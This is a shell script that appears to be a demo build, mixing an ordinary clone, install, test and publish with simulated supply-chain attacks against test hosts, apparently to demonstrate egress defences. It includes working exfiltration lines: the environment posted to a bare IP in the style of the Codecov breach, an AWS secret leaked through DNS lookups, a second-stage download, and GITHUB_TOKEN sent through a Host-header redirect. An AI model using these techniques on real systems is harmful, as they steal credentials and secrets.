#!/bin/sh
# The build of the demo: honest work, and between its steps the attacks of the last years. Every attack hides its failure, as
# the real ones did: the build always ends well. What the attacker got is counted at the attacker's side.
set -u
export GIT_TERMINAL_PROMPT=0 EMAIL=build@acme.test
export npm_config_update_notifier=false npm_config_audit=false npm_config_fund=false

dim='' yellow='' plain=''
if [ -t 1 ] && [ -z "${NO_COLOR:-}" ]; then dim=$(printf '\033[2m') yellow=$(printf '\033[33m') plain=$(printf '\033[0m'); fi
step() { printf '%s  build   %s%s\n' "$dim" "$1" "$plain"; }
attack() { printf '%s  attack  %s%s\n' "$yellow" "$1" "$plain"; }

work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT
cd "$work"
export npm_config_cache="$work/npm-cache"

step 'git clone https://git.acme.test/acme/app.git'
git clone -q https://git.acme.test/acme/app.git app || exit 1
cd app

step 'npm install'
attack 'a package was taken over: its install script posts the environment'
printf '{ "name": "app", "version": "1.0.0", "private": true }\n' > package.json
npm install --silent --no-progress --foreground-scripts lab-right lab-poisoned || exit 1

step 'npm test'
node -e 'if (require("lab-right")("it works") !== " it works ") process.exit(1)' || exit 1

attack 'the coverage uploader was changed on its server, as at Codecov in 2021'
curl -sm 3 -o /dev/null -d "$(git remote -v)<<<<<< ENV $(env)" http://203.0.113.66/upload/v2

attack 'a dependency asks DNS for names that spell the key'
for part in $(printf '%s' "$AWS_SECRET_ACCESS_KEY" | od -An -tx1 | tr -d ' \n' | fold -w 30); do
  getent ahosts "$part.x.evil.test" > /dev/null
done

attack 'a second stage is fetched from a bare address'
curl -skm 3 -o stage2.sh https://203.0.113.77/stage2.sh

attack 'an allowed host is dialled, and its front asked for another one'
curl -sm 3 -o /dev/null -X PUT -H 'Host: elsewhere.acme.test' -d "token=$GITHUB_TOKEN" https://files.acme.test/upload

step 'publish the package to https://files.acme.test/upload'
npm pack --silent > /dev/null && curl -sSfm 10 -o /dev/null -T app-1.0.0.tgz https://files.acme.test/upload || exit 1
